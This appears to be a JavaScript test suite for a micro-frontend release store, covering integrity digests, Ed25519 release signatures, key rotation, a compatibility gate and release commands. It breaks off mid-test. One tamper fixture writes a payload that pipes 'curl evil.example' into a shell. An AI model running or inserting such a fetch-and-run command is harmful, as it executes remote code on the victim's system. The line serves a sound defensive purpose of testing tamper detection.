// The release store, the compatibility gate and the release commands, on made-up builds in a
// temporary store (the e2e suite releases, promotes and rolls back real builds over the running system).
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import crypto from 'node:crypto';
import zlib from 'node:zlib';
import fs from 'node:fs';
import { createRequire } from 'node:module';
import os from 'node:os';
import path from 'node:path';
import { describe, test } from 'node:test';
import { ROOT } from './lib/paths.mjs';

const require = createRequire(import.meta.url);
const store = require('../tooling/src/release/store.cjs');
const { compatibilityProblems, readCandidate } = require('../tooling/src/release/gate.cjs');
const { remotePages } = require('../tooling/src/release/remote-pages.cjs');
const { remotesJson } = require('../tooling/src/runtime-config.cjs');

const temporary = (name) => fs.mkdtempSync(path.join(os.tmpdir(), `utsav-${name}-`));

const shared = (name, version, requiredVersion = `^${version}`) => ({ name, version, requiredVersion, singleton: true });
const HOST_SHARED = [
  shared('react', '19.3.1'),
  shared('react-dom', '19.3.1'),
  shared('@emotion/react', '11.14.0'),
  shared('@emotion/styled', '11.14.1'),
  shared('@mui/material/styles', '9.5.0'),
  shared('@mui/material/Button', '9.5.0'),
  shared('@utsav/contracts', '1.1.0'),
  shared('@utsav/contracts/router', '1.1.0'),
];
const CATALOG_PAGES = ['./Home', './Search', './ServiceDetail', './PackageList', './PackageDetail'];

/** A built catalog: its manifests (browser, and server unless `server` is false), with `change` applied to each. */
function catalogBuild({ exposes = CATALOG_PAGES, change = (list) => list, server = true } = {}) {
  const manifest = () => ({
    name: 'catalog',
    exposes: exposes.map((page) => ({ name: page.slice(2), path: page })),
    shared: change([shared('react', '19.3.1'), shared('@mui/material/Button', '9.5.0'), shared('@utsav/contracts', '1.1.0'), shared('react-hook-form', '7.62.0')]),
  });
  return { manifest: manifest(), serverManifest: server ? manifest() : null };
}

const HOST = { manifest: { shared: HOST_SHARED }, pages: { catalog: CATALOG_PAGES, booking: ['./MyBookings'] }, serverManifest: { shared: HOST_SHARED } };

/** `dist` of a made-up remote build. */
function distDir(words = 'hello') {
  const dir = temporary('dist');
  fs.writeFileSync(path.join(dir, 'mf-manifest.json'), JSON.stringify(catalogBuild().manifest));
  fs.writeFileSync(path.join(dir, 'remoteEntry.js'), `console.log(${JSON.stringify(words)})`);
  fs.mkdirSync(path.join(dir, 'server'));
  fs.writeFileSync(path.join(dir, 'server', 'remoteEntry.js'), 'module.exports = {}');
  fs.writeFileSync(path.join(dir, 'server', 'mf-manifest.json'), JSON.stringify(catalogBuild().serverManifest));
  fs.writeFileSync(path.join(dir, '.build-stamp'), 'x');
  return dir;
}

const release = (releases, version, dist = distDir()) =>
  store.storeRelease(releases, { remote: 'catalog', version, dist, packageVersion: '1.0.0', inputHash: version.slice(6).padEnd(64, '0') });

describe('the release store', () => {
  test('a version is stored once, whole, and never changed: the same version again writes nothing', () => {
    const releases = temporary('releases');
    const first = release(releases, '1.0.0-aaaaaaaaaaaa', distDir('first'));
    assert.equal(first.created, true);
    const again = release(releases, '1.0.0-aaaaaaaaaaaa', distDir('second'));
    assert.equal(again.created, false);
    assert.equal(fs.readFileSync(path.join(first.dir, 'remoteEntry.js'), 'utf8'), 'console.log("first")');
    assert.ok(fs.existsSync(path.join(first.dir, 'server', 'remoteEntry.js')));
    assert.ok(!fs.existsSync(path.join(first.dir, '.build-stamp')));
    assert.deepEqual(fs.readdirSync(path.join(releases, 'catalog')), ['1.0.0-aaaaaaaaaaaa'], 'no staging folder is left');
    assert.deepEqual(store.listVersions(releases, 'catalog').map((info) => info.version), ['1.0.0-aaaaaaaaaaaa']);
  });

  test('a build without a manifest, a bad version or an unknown remote is refused', () => {
    const releases = temporary('releases');
    const empty = temporary('dist');
    assert.throws(() => release(releases, '1.0.0-aaaaaaaaaaaa', empty), /has no mf-manifest.json/);
    assert.throws(() => release(releases, '../escape'), /is not a version/);
    assert.throws(() => store.storeRelease(releases, { remote: 'payments', version: '1.0.0-aaaaaaaaaaaa', dist: distDir() }), /unknown remote "payments"/);
  });

  test('promote pushes, rollback pops: rolling back twice goes back twice, and the log keeps every step', () => {
    const releases = temporary('releases');
    for (const version of ['1.0.0-aaaaaaaaaaaa', '1.0.0-bbbbbbbbbbbb', '1.0.0-cccccccccccc']) {
      release(releases, version);
      store.promote(releases, 'catalog', version);
    }
    assert.equal(store.readPointer(releases, 'catalog').live, '1.0.0-cccccccccccc');
    assert.equal(store.rollback(releases, 'catalog').live, '1.0.0-bbbbbbbbbbbb');
    assert.equal(store.rollback(releases, 'catalog').live, '1.0.0-aaaaaaaaaaaa');
    assert.throws(() => store.rollback(releases, 'catalog'), /no earlier version to roll back to \(live: 1.0.0-aaaaaaaaaaaa\)/);
    const pointer = store.readPointer(releases, 'catalog');
    assert.deepEqual(
      pointer.log.map(({ action, version, from }) => [action, version, from]),
      [
        ['promote', '1.0.0-aaaaaaaaaaaa', null],
        ['promote', '1.0.0-bbbbbbbbbbbb', '1.0.0-aaaaaaaaaaaa'],
        ['promote', '1.0.0-cccccccccccc', '1.0.0-bbbbbbbbbbbb'],
        ['rollback', '1.0.0-bbbbbbbbbbbb', '1.0.0-cccccccccccc'],
        ['rollback', '1.0.0-aaaaaaaaaaaa', '1.0.0-bbbbbbbbbbbb'],
      ],
    );
    assert.deepEqual(fs.readdirSync(path.join(releases, 'catalog')).filter((name) => !name.startsWith('1.0.0-')), ['live.json'], 'no temporary pointer or lock is left');
  });

  test('a version not in the store cannot be promoted; a promote while another holds the lock is refused', () => {
    const releases = temporary('releases');
    assert.throws(() => store.promote(releases, 'catalog', '1.0.0-dddddddddddd'), /is not in the store/);
    release(releases, '1.0.0-aaaaaaaaaaaa');
    fs.writeFileSync(path.join(releases, 'catalog', '.lock'), '');
    assert.throws(() => store.promote(releases, 'catalog', '1.0.0-aaaaaaaaaaaa'), /another promote or rollback holds/);
    assert.equal(store.readPointer(releases, 'catalog').live, null);
  });

  test("the host's remotes.json follows the live pointers; a remote with nothing live, or pinned by URL, stays where it is", () => {
    const releases = temporary('releases');
    release(releases, '1.0.0-aaaaaaaaaaaa');
    store.promote(releases, 'catalog', '1.0.0-aaaaaaaaaaaa');
    assert.deepEqual(remotesJson({ RELEASES_DIR: releases, REMOTE_CATALOG_URL: 'https://cdn.example/catalog/' }), {
      catalog: 'https://cdn.example/catalog/1.0.0-aaaaaaaaaaaa/mf-manifest.json',
      booking: 'http://localhost:3002/mf-manifest.json',
      checkout: 'http://localhost:3003/mf-manifest.json',
      account: 'http://localhost:3004/mf-manifest.json',
      provider: 'http://localhost:3005/mf-manifest.json',
    });
    assert.equal(remotesJson({ RELEASES_DIR: releases, REMOTE_CATALOG_URL: 'https://cdn.example/pinned/mf-manifest.json' }).catalog, 'https://cdn.example/pinned/mf-manifest.json');
    assert.equal(remotesJson({}).catalog, 'http://localhost:3001/mf-manifest.json', 'without RELEASES_DIR there is no store');
  });
});

describe('what a release is: its files, as released', () => {
  const tamper = (releases, version, file, text) => fs.writeFileSync(path.join(releases, 'catalog', version, file), text);

  test('a release records the SHA-256 of every file it stores, as Subresource Integrity writes it', () => {
    const releases = temporary('releases');
    const { dir } = release(releases, '1.0.0-aaaaaaaaaaaa', distDir('first'));
    const { digests } = store.readRelease(releases, 'catalog', '1.0.0-aaaaaaaaaaaa');
    assert.deepEqual(Object.keys(digests), ['mf-manifest.json', 'remoteEntry.js', 'server/mf-manifest.json', 'server/remoteEntry.js']);
    const sha256 = (file) => `sha256-${crypto.createHash('sha256').update(fs.readFileSync(path.join(dir, file))).digest('base64')}`;
    for (const [file, digest] of Object.entries(digests)) assert.equal(digest, sha256(file), file);
    assert.deepEqual(store.verifyVersion(releases, 'catalog', '1.0.0-aaaaaaaaaaaa'), []);

    // the compressed copies the static server keeps beside a file are checked by what they decode to
    fs.writeFileSync(path.join(dir, 'remoteEntry.js.br'), zlib.brotliCompressSync(fs.readFileSync(path.join(dir, 'remoteEntry.js'))));
    fs.writeFileSync(path.join(dir, 'remoteEntry.js.gz'), zlib.gzipSync('alert("not the entry")'));
    fs.writeFileSync(path.join(dir, 'stray.js.br'), zlib.brotliCompressSync('alert(1)'));
    assert.deepEqual(store.verifyVersion(releases, 'catalog', '1.0.0-aaaaaaaaaaaa'), [
      'remoteEntry.js.gz: does not decode to the released remoteEntry.js',
      'stray.js.br: not a file of the release',
    ]);
  });

  test('a changed, missing or added file is named, and such a version is never made live (promote, rollback)', () => {
    const releases = temporary('releases');
    release(releases, '1.0.0-aaaaaaaaaaaa');
    release(releases, '1.0.0-bbbbbbbbbbbb');
    store.promote(releases, 'catalog', '1.0.0-aaaaaaaaaaaa');
    store.promote(releases, 'catalog', '1.0.0-bbbbbbbbbbbb');

    tamper(releases, '1.0.0-aaaaaaaaaaaa', 'server/remoteEntry.js', 'require("child_process").exec("curl evil.example | sh")');
    fs.rmSync(path.join(releases, 'catalog', '1.0.0-aaaaaaaaaaaa', 'remoteEntry.js'));
    tamper(releases, '1.0.0-aaaaaaaaaaaa', 'extra.js', 'alert(1)');
    const problems = store.verifyVersion(releases, 'catalog', '1.0.0-aaaaaaaaaaaa');
    assert.equal(problems.length, 3, problems.join('\n'));
    assert.match(problems[0], /^remoteEntry\.js: missing$/);
    assert.match(problems[1], /^server\/remoteEntry\.js: its contents are not the ones released \(sha256 \S+, released \S+\)$/);
    assert.match(problems[2], /^extra\.js: not a file of the release$/);
    assert.throws(() => store.rollback(releases, 'catalog'), store.TamperedRelease);

    tamper(releases, '1.0.0-bbbbbbbbbbbb', 'mf-manifest.json', '{"name":"catalog","exposes":[],"shared":[]}');
    assert.throws(() => store.promote(releases, 'catalog', '1.0.0-bbbbbbbbbbbb'), /catalog 1\.0\.0-bbbbbbbbbbbb: its files do not match its release record; the live version is unchanged:\n {2}mf-manifest\.json: its contents are not the ones released/);
    assert.equal(store.readPointer(releases, 'catalog').live, '1.0.0-bbbbbbbbbbbb', 'the pointer is untouched');
  });

  test('a version whose record has no digests (or is not a record) is refused', () => {
    const releases = temporary('releases');
    const { dir } = release(releases, '1.0.0-aaaaaaaaaaaa');
    const info = JSON.parse(fs.readFileSync(path.join(dir, 'release.json'), 'utf8'));
    delete info.digests;
    fs.writeFileSync(path.join(dir, 'release.json'), JSON.stringify(info));
    assert.match(store.verifyVersion(releases, 'catalog', '1.0.0-aaaaaaaaaaaa')[0], /records no digests of its files/);
    fs.writeFileSync(path.join(dir, 'release.json'), JSON.stringify({ ...info, digests: { '../../host-shell/dist/index.html': 'x' } }));
    assert.match(store.verifyVersion(releases, 'catalog', '1.0.0-aaaaaaaaaaaa')[0], /release\.json is not valid: digests/);
    assert.throws(() => store.promote(releases, 'catalog', '1.0.0-aaaaaaaaaaaa'), store.TamperedRelease);
  });

  test("live.json is checked when read, as when written: a version that is not one never reaches the host's URLs", () => {
    const releases = temporary('releases');
    release(releases, '1.0.0-aaaaaaaaaaaa');
    store.promote(releases, 'catalog', '1.0.0-aaaaaaaaaaaa');
    const pointer = path.join(releases, 'catalog', 'live.json');
    const good = JSON.parse(fs.readFileSync(pointer, 'utf8'));
    const env = { RELEASES_DIR: releases, REMOTE_CATALOG_URL: 'https://cdn.example/catalog' };
    for (const live of ['../../evil.example/x', 'https://evil.example/', '1.0.0-a?x=', 42]) {
      fs.writeFileSync(pointer, JSON.stringify({ ...good, live }));
      assert.throws(() => store.readPointer(releases, 'catalog'), /live\.json is not valid: live:/, String(live));
      assert.deepEqual(store.liveVersions(releases), {});
      assert.equal(remotesJson(env).catalog, 'https://cdn.example/catalog/mf-manifest.json', String(live));
    }
    fs.writeFileSync(pointer, '{"live": "1.0.0-aaaaaaaaaaaa"');
    assert.throws(() => store.readPointer(releases, 'catalog'), /live\.json is not JSON/);
    assert.throws(() => store.promote(releases, 'catalog', '1.0.0-aaaaaaaaaaaa'), /live\.json is not JSON/, 'a pointer that is not one is not built upon');
    fs.writeFileSync(pointer, JSON.stringify(good));
    assert.equal(remotesJson(env).catalog, 'https://cdn.example/catalog/1.0.0-aaaaaaaaaaaa/mf-manifest.json');
  });
});

describe('release signatures (Ed25519 over the digest list)', () => {
  const signing = require('../tooling/src/release/signing.cjs');
  const pem = (key) => key.export({ type: key.type === 'private' ? 'pkcs8' : 'spki', format: 'pem' });
  const team = crypto.generateKeyPairSync('ed25519');
  const rewrite = (dir, change) => {
    const file = path.join(dir, 'release.json');
    fs.writeFileSync(file, JSON.stringify(change(JSON.parse(fs.readFileSync(file, 'utf8')))));
  };

  test('a release is signed (off production, with the development key made once in RELEASE_KEYS_DIR) and checks', () => {
    const keys = temporary('keys');
    const env = { RELEASE_KEYS_DIR: keys };
    const releases = temporary('releases');
    release(releases, '1.0.0-aaaaaaaaaaaa');
    const { dir } = store.storeRelease(releases, { remote: 'catalog', version: '1.0.0-bbbbbbbbbbbb', dist: distDir(), packageVersion: '1.0.0', inputHash: 'b'.repeat(64), key: signing.signingKey(env) });
    const { signature } = store.readRelease(releases, 'catalog', '1.0.0-bbbbbbbbbbbb');
    assert.equal(signature.algorithm, 'ed25519');
    assert.equal(signature.development, true);
    assert.deepEqual(fs.readdirSync(keys).sort(), ['development.key.pem', 'development.pub.pem']);
    assert.equal(fs.statSync(path.join(keys, 'development.key.pem')).mode & 0o077, 0, 'the private key is its owner\'s alone');
    assert.deepEqual(store.verifyVersion(releases, 'catalog', '1.0.0-bbbbbbbbbbbb', env), []);
    assert.deepEqual(signing.verifyingKeys('catalog', env).map(signing.keyIdOf), [signature.key], 'the same key pair, read again');
    // another machine's development key is another key
    assert.match(store.verifyVersion(releases, 'catalog', '1.0.0-aaaaaaaaaaaa', env)[0], /^catalog 1\.0\.0-aaaaaaaaaaaa is signed with key [0-9a-f]{16}, not catalog's \([0-9a-f]{16}\)$/);

    // one who can write the store changes a file and its digest: the signature no longer matches
    fs.appendFileSync(path.join(dir, 'remoteEntry.js'), ';steal()');
    rewrite(dir, (info) => ({ ...info, digests: { ...info.digests, 'remoteEntry.js': store.digestOf(fs.readFileSync(path.join(dir, 'remoteEntry.js'))) } }));
    assert.deepEqual(store.verifyVersion(releases, 'catalog', '1.0.0-bbbbbbbbbbbb', env), ['catalog 1.0.0-bbbbbbbbbbbb: its signature does not match its digests']);
    rewrite(dir, ({ signature: _gone, ...info }) => info);
    assert.deepEqual(store.verifyVersion(releases, 'catalog', '1.0.0-bbbbbbbbbbbb', env), ['catalog 1.0.0-bbbbbbbbbbbb is not signed']);
  });

  test("production: signed with the team's key only, checked with the remote's public key only; the development key is refused", () => {
    const keys = temporary('keys');
    const releases = temporary('releases');
    const production = { NODE_ENV: 'production', RELEASE_KEYS_DIR: keys };
    assert.throws(() => signing.signingKey(production), /RELEASE_SIGNING_KEY is not set/);
    assert.throws(() => signing.developmentKeys(production), /never used with NODE_ENV=production/);
    assert.throws(() => signing.signingKey({ ...production, RELEASE_SIGNING_KEY: 'not a key' }), /RELEASE_SIGNING_KEY is not a private key/);
    const rsa = crypto.generateKeyPairSync('rsa', { modulusLength: 1024 });
    assert.throws(() => signing.signingKey({ ...production, RELEASE_SIGNING_KEY: pem(rsa.privateKey) }), /is a rsa key: releases are signed with Ed25519/);

    const key = signing.signingKey({ ...production, RELEASE_SIGNING_KEY: pem(team.privateKey) });
    assert.equal(key.development, false);
    store.storeRelease(releases, { remote: 'catalog', version: '1.0.0-aaaaaaaaaaaa', dist: distDir(), packageVersion: '1.0.0', inputHash: 'a'.repeat(64), key });
    assert.deepEqual(store.verifyVersion(releases, 'catalog', '1.0.0-aaaaaaaaaaaa', production), ["no public key to check catalog's releases with: set REMOTE_CATALOG_PUBLIC_KEY"]);
    const teamDer = team.publicKey.export({ type: 'spki', format: 'der' }).toString('base64');
    const withKey = { ...production, REMOTE_CATALOG_PUBLIC_KEY: teamDer };
    assert.deepEqual(store.verifyVersion(releases, 'catalog', '1.0.0-aaaaaaaaaaaa', withKey), []);
    assert.throws(() => store.promote(releases, 'catalog', '1.0.0-aaaaaaaaaaaa'), store.TamperedRelease, 'this machine checks with its development key');

    // a version signed with a development key, even one production was (wrongly) given the public half of
    const development = { RELEASE_KEYS_DIR: keys };
    store.storeRelease(releases, { remote: 'catalog', version: '1.0.0-bbbbbbbbbbbb', dist: distDir(), packageVersion: '1.0.0', inputHash: 'b'.repeat(64), key: signing.signingKey(development) });
    const developmentPublic = fs.readFileSync(path.join(keys, 'development.pub.pem'), 'utf8');
    assert.deepEqual(store.verifyVersion(releases, 'catalog', '1.0.0-bbbbbbbbbbbb', { ...production, REMOTE_CATALOG_PUBLIC_KEY: developmentPublic }), [
      'catalog 1.0.0-bbbbbbbbbbbb is signed with a development key, which production refuses',
    ]);
    assert.match(signing.productionKeyProblem(['catalog'], production), /^REMOTE_CATALOG_PUBLIC_KEY is not set/);
    assert.match(signing.productionKeyProblem(['catalog'], { ...production, REMOTE_CATALOG_PUBLIC_KEY: developmentPublic }), /is this machine's development key/);
    assert.match(signing.productionKeyProblem(['catalog'], { ...production, REMOTE_CATALOG_PUBLIC_KEY: 'nope' }), /REMOTE_CATALOG_PUBLIC_KEY is not a public key/);
    assert.equal(signing.productionKeyProblem(['catalog'], withKey), null);
  });

  test("a team rotates its key: while both public keys are set, releases signed with either are taken; after, the old one's are refused", () => {
    const releases = temporary('releases');
    const production = { NODE_ENV: 'production', RELEASE_KEYS_DIR: temporary('keys') };
    const next = crypto.generateKeyPairSync('ed25519');
    const der = (pair) => pair.publicKey.export({ type: 'spki', format: 'der' }).toString('base64');
    const signedWith = (pair, version) =>
      store.storeRelease(releases, { remote: 'catalog', version, dist: distDir(), packageVersion: '1.0.0', inputHash: version.slice(6).padEnd(64, '0'),
        key: signing.signingKey({ ...production, RELEASE_SIGNING_KEY: pem(pair.privateKey) }) });
    signedWith(team, '1.0.0-aaaaaaaaaaaa');
    signedWith(next, '1.0.0-bbbbbbbbbbbb');
    const verify = (keys, version) => store.verifyVersion(releases, 'catalog', version, { ...production, REMOTE_CATALOG_PUBLIC_KEY: keys });
    // the overlap: both keys, as base64 DER separated by a comma, or as two PEM blocks
    for (const both of [`${der(team)},${der(next)}`, `${pem(team.publicKey)}\n${pem(next.publicKey)}`]) {
      assert.deepEqual(verify(both, '1.0.0-aaaaaaaaaaaa'), []);
      assert.deepEqual(verify(both, '1.0.0-bbbbbbbbbbbb'), []);
      assert.equal(signing.productionKeyProblem(['catalog'], { ...production, REMOTE_CATALOG_PUBLIC_KEY: both }), null);
    }
    // after: the new key alone
    assert.deepEqual(verify(der(next), '1.0.0-bbbbbbbbbbbb'), []);
    assert.match(verify(der(next), '1.0.0-aaaaaaaaaaaa')[0], /^catalog 1\.0\.0-aaaaaaaaaaaa is signed with key [0-9a-f]{16}, not catalog's \([0-9a-f]{16}\)$/);
    assert.match(signing.productionKeyProblem(['catalog'], { ...production, REMOTE_CATALOG_PUBLIC_KEY: `${der(next)}, nope` }), /REMOTE_CATALOG_PUBLIC_KEY \(its key 2 of 2\) is not a public key/);
  });

  test("the host tells the browser each live release's entry digests, refuses a release its key did not sign, and in production will not start without each remote's key", async () => {
    const { startServe } = await import('./lib/serve-process.mjs');
    const keys = temporary('keys');
    const releases = temporary('releases');
    const hostDir = temporary('host');
    fs.writeFileSync(path.join(hostDir, 'index.html'), '<!doctype html><title>t</title>');
    const teamDer = team.publicKey.export({ type: 'spki', format: 'der' }).toString('base64');
    const teamKey = { privateKey: team.privateKey, development: false };
    const dist = distDir();
    store.storeRelease(releases, { remote: 'catalog', version: '1.0.0-aaaaaaaaaaaa', dist, packageVersion: '1.0.0', inputHash: 'a'.repeat(64), key: teamKey });
    store.storeRelease(releases, { remote: 'catalog', version: '1.0.0-bbbbbbbbbbbb', dist, packageVersion: '1.0.0', inputHash: 'b'.repeat(64), key: signing.signingKey({ RELEASE_KEYS_DIR: keys }) });
    const env = { RELEASES_DIR: releases, RELEASE_KEYS_DIR: keys, REMOTE_CATALOG_URL: 'https://cdn.example/catalog', REMOTE_CATALOG_PUBLIC_KEY: teamDer };
    store.promote(releases, 'catalog', '1.0.0-aaaaaaaaaaaa', new Date(), env);

    const host = await startServe({ dir: hostDir, args: ['--runtime-config'], env });
    try {
      const integrity = async () => (await fetch(`${host.url}/remote-integrity.json`)).json();
      const { digests } = store.readRelease(releases, 'catalog', '1.0.0-aaaaaaaaaaaa');
      assert.deepEqual(await integrity(), {
        catalog: { base: 'https://cdn.example/catalog/1.0.0-aaaaaaaaaaaa/', digests: { 'mf-manifest.json': digests['mf-manifest.json'], 'remoteEntry.js': digests['remoteEntry.js'] } },
      });
      // a pointer moved to a version this key did not sign (by hand: promote refuses it): nothing of it may run
      fs.writeFileSync(path.join(releases, 'catalog', 'live.json'), JSON.stringify({ ...store.readPointer(releases, 'catalog'), live: '1.0.0-bbbbbbbbbbbb' }));
      assert.deepEqual(await integrity(), { catalog: { base: 'https://cdn.example/catalog/1.0.0-bbbbbbbbbbbb/', digests: {}, refused: true } });
    } finally {
      await host.stop();
    }

    const production = {
      ...env,
      NODE_ENV: 'production',
      FIREBASE_API_KEY: 'AIzaSy-production-key',
      FIREBASE_PROJECT_ID: 'utsav-prod',
      FIREBASE_AUTH_DOMAIN: 'utsav-prod.firebaseapp.com',
      API_PUBLIC_URL: 'https://api.utsav.example',
      PAYMENT_CHECKOUT_URL: 'https://checkout.razorpay.com/v1/checkout.js',
      REMOTE_BOOKING_URL: 'https://cdn.example/booking',
      REMOTE_CHECKOUT_URL: 'https://cdn.example/checkout',
      REMOTE_ACCOUNT_URL: 'https://cdn.example/account',
      REMOTE_PROVIDER_URL: 'https://cdn.example/provider',
      REMOTE_BOOKING_PUBLIC_KEY: teamDer,
      REMOTE_CHECKOUT_PUBLIC_KEY: teamDer,
      REMOTE_ACCOUNT_PUBLIC_KEY: teamDer,
      REMOTE_PROVIDER_PUBLIC_KEY: teamDer,
    };
    const serve = (changes) =>
      spawnSync(process.execPath, [path.join(ROOT, 'tooling/src/serve.cjs'), '--dir', hostDir, '--port', '0', '--runtime-config'], {
        env: { PATH: process.env.PATH, ...Object.fromEntries(Object.entries({ ...production, ...changes }).filter(([, value]) => value !== undefined)) },
        encoding: 'utf8',
        timeout: 10_000,
      });
    const missing = serve({ REMOTE_ACCOUNT_PUBLIC_KEY: undefined });
    assert.equal(missing.status, 1);
    assert.match(missing.stderr, /refusing to start with NODE_ENV=production: REMOTE_ACCOUNT_PUBLIC_KEY is not set/);
    const development = serve({ REMOTE_BOOKING_PUBLIC_KEY: fs.readFileSync(path.join(keys, 'development.pub.pem'), 'utf8') });
    assert.equal(development.status, 1);
    assert.match(development.stderr, /REMOTE_BOOKING_PUBLIC_KEY is this machine's development key/);
    const started = await startServe({ dir: hostDir, args: ['--runtime-config'], env: production });
    await started.stop();
  });
});

describe('the compatibility gate', () => {
  test('a build like the host passes (a module the host does not share, like the form library, is the remote\'s own)', () => {
    assert.deepEqual(compatibilityProblems({ remote: 'catalog', candidate: catalogBuild(), host: HOST }), []);
  });

  test('a @utsav/contracts major the host does not provide: one line for each side', () => {
    const candidate = catalogBuild({ change: (list) => list.map((entry) => (entry.name === '@utsav/contracts' ? shared(entry.name, '2.0.0') : entry)) });
    assert.deepEqual(compatibilityProblems({ remote: 'catalog', candidate, host: HOST }), [
      '@utsav/contracts: the remote requires ^2.0.0, the live host provides 1.1.0',
      'server: @utsav/contracts: the remote requires ^2.0.0, the live host provides 1.1.0',
    ]);
  });

  test('a page the host routes to that the build does not expose, a singleton the host does not provide, a range that is none', () => {
    const candidate = catalogBuild({
      exposes: CATALOG_PAGES.filter((page) => page !== './Search'),
      change: (list) => [...list, shared('jotai', '3.0.1'), shared('@emotion/react', '11.14.0', 'latest please')],
    });
    assert.deepEqual(compatibilityProblems({ remote: 'catalog', candidate, host: { ...HOST, serverManifest: null } }), [
      "does not expose ./Search, which the live host's routes load",
      'jotai: the remote shares it with the host, and the live host does not provide it',
      '@emotion/react: the remote requires "latest please", which is not a version range',
    ]);
  });

  test('a module the browser build takes from the host alone (host-shares.json): any the host does not provide, or not in range, is refused', () => {
    const hostShares = [
      { name: '@mui/material/Button', requiredVersion: '^9.5.0' },
      { name: '@mui/material/Rating', requiredVersion: '^9.5.0' },
      { name: 'react', requiredVersion: '^20.0.0' },
    ];
    assert.deepEqual(compatibilityProblems({ remote: 'catalog', candidate: { ...catalogBuild(), hostShares }, host: { ...HOST, serverManifest: null } }), [
      'react: the remote requires ^20.0.0, the live host provides 19.3.1',
      '@mui/material/Rating: the remote takes it from the host (it has no copy of its own), and the live host does not provide it',
    ]);
  });

  test('the gate reads host-shares.json beside a build\'s manifest', () => {
    const dir = distDir();
    fs.writeFileSync(path.join(dir, 'host-shares.json'), JSON.stringify([{ name: '@mui/material/Rating', requiredVersion: '^9.5.0' }]));
    const candidate = readCandidate(dir);
    assert.deepEqual(compatibilityProblems({ remote: 'catalog', candidate, host: HOST }), [
      '@mui/material/Rating: the remote takes it from the host (it has no copy of its own), and the live host does not provide it',
    ]);
  });

  test('a host that renders on the server needs the server container too; a host that does not, does not', () => {
    const candidate = catalogBuild({ server: false });
    assert.deepEqual(compatibilityProblems({ remote: 'catalog', candidate, host: HOST }), [
      'server: has no server container (server/mf-manifest.json), and the live host renders its pages on the server',
    ]);
    assert.deepEqual(compatibilityProblems({ remote: 'catalog', candidate, host: { ...HOST, serverManifest: null } }), []);
  });

  test("the host's build writes the pages its route table loads from each remote: each remote's exposes", () => {
    const pages = remotePages();
    for (const remote of store.REMOTES) {
      const federation = JSON.parse(fs.readFileSync(path.join(ROOT, `mfe-${remote}`, 'federation.config.json'), 'utf8'));
      assert.deepEqual([...pages[remote]].sort(), federation.pages.map((page) => `./${page}`).sort(), remote);
    }
  });
});

describe('the release commands', () => {
  /** A host's build folder as the gate reads it: dist/ with its manifest and route pages, dist-server/ beside it. */
  function hostDist() {
    const root = temporary('host');
    fs.mkdirSync(path.join(root, 'dist'));
    fs.mkdirSync(path.join(root, 'dist-server'));
    fs.writeFileSync(path.join(root, 'dist', 'mf-manifest.json'), JSON.stringify(HOST.manifest));
    fs.writeFileSync(path.join(root, 'dist', 'remote-pages.json'), JSON.stringify(HOST.pages));
    fs.writeFileSync(path.join(root, 'dist-server', 'mf-manifest.json'), JSON.stringify(HOST.serverManifest));
    return path.join(root, 'dist');
  }

  const run = (releases, ...args) =>
    spawnSync(process.execPath, [path.join(ROOT, 'scripts/release.mjs'), ...args], { env: { ...process.env, RELEASES_DIR: releases }, encoding: 'utf8' });

  test('a bad value in their environment (its schema, release-environment.cjs) stops every command before it does anything: one line naming it, never the secret', () => {
    const releases = temporary('releases');
    const secret = 'not-a-key-but-secret';
    const refused = spawnSync(process.execPath, [path.join(ROOT, 'scripts/release.mjs'), 'list'], { env: { ...process.env, RELEASES_DIR: releases, RELEASE_SIGNING_KEY: secret }, encoding: 'utf8' });
    assert.deepEqual({ status: refused.status, stdout: refused.stdout, stderr: refused.stderr }, { status: 1, stdout: '', stderr: 'RELEASE_SIGNING_KEY is not a private key (PEM, or its DER in base64)\n' });
    const { publicKey } = crypto.generateKeyPairSync('ed25519');
    const publicPem = publicKey.export({ type: 'spki', format: 'pem' });
    const wrongKind = spawnSync(process.execPath, [path.join(ROOT, 'scripts/release.mjs'), 'list'], { env: { ...process.env, RELEASES_DIR: releases, RELEASE_SIGNING_KEY: publicPem }, encoding: 'utf8' });
    assert.equal(wrongKind.stderr, 'RELEASE_SIGNING_KEY is not a private key (PEM, or its DER in base64)\n');
    assert.equal(run(releases, 'list').status, 0);
  });

  test('check and promote refuse an incompatible version with one line per mismatch and leave the live pointer alone', () => {
    const releases = temporary('releases');
    const host = hostDist();
    release(releases, '1.0.0-aaaaaaaaaaaa');
    const first = run(releases, 'promote', 'catalog', '1.0.0-aaaaaaaaaaaa', '--host', host);
    assert.equal(first.status, 0, first.stderr);
    const dist = distDir();
    const manifest = { ...catalogBuild().manifest, shared: [shared('@utsav/contracts', '2.0.0')] };
    fs.writeFileSync(path.join(dist, 'mf-manifest.json'), JSON.stringify(manifest));
    fs.writeFileSync(path.join(dist, 'server', 'mf-manifest.json'), JSON.stringify(manifest));
    release(releases, '1.0.0-bbbbbbbbbbbb', dist);

    const check = run(releases, 'check', 'catalog', '1.0.0-bbbbbbbbbbbb', '--host', host);
    assert.equal(check.status, 1);
    assert.match(check.stderr, /^ {2}@utsav\/contracts: the remote requires \^2\.0\.0, the live host provides 1\.1\.0$/m);
    const promote = run(releases, 'promote', 'catalog', '1.0.0-bbbbbbbbbbbb', '--host', host);
    assert.equal(promote.status, 1);
    assert.match(promote.stderr, /is not compatible with the live host; the live version is unchanged/);
    assert.equal(store.readPointer(releases, 'catalog').live, '1.0.0-aaaaaaaaaaaa');

    const list = run(releases, 'list');
    assert.match(list.stdout, /^\* 1\.0\.0-aaaaaaaaaaaa {2}released .+; promoted .+ {2}\(live\)$/m);
    assert.match(list.stdout, /^ {2}1\.0\.0-bbbbbbbbbbbb {2}released [^;]+$/m);
    assert.equal(run(releases, 'rollback', 'catalog', '--host', host).status, 1, 'nothing before the first version');
    assert.equal(run(releases, 'promote', 'payments', '1.0.0-aaaaaaaaaaaa').stderr.trim(), 'unknown remote "payments": one of catalog, booking, checkout, account, provider');
    assert.equal(run(releases, 'check', 'catalog', '1.0.0-aaaaaaaaaaaa', '--host', releases).stderr.trim(), `${releases} is not a built host: it needs mf-manifest.json and remote-pages.json`);
  });

  test('the gate and promote refuse a version with a tampered file, naming it', () => {
    const releases = temporary('releases');
    const host = hostDist();
    release(releases, '1.0.0-aaaaaaaaaaaa');
    release(releases, '1.0.0-bbbbbbbbbbbb');
    assert.equal(run(releases, 'promote', 'catalog', '1.0.0-aaaaaaaaaaaa', '--host', host).status, 0);
    fs.appendFileSync(path.join(releases, 'catalog', '1.0.0-bbbbbbbbbbbb', 'server', 'remoteEntry.js'), ';globalThis.owned = true');
